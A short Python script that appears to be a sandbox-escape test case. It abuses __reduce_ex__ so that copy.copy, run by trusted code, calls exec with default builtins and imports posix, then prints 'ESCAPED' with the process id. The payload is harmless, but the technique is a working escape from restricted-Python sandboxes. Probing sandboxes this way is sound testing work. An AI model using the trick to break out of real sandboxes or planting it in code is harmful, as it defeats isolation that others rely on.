# technique: exec with plain globals, called by trusted code: the caller's builtins are filled in
# goal: import
# source: own analysis: the default builtins of exec
import copy
g = {}


class Carrier:
    def __reduce_ex__(self, version):
        return exec, ('import posix; pid = posix.getpid()', g)


try:
    copy.copy(Carrier())
except Exception:
    pass
print('ESCAPED pid=%d' % g['pid'])
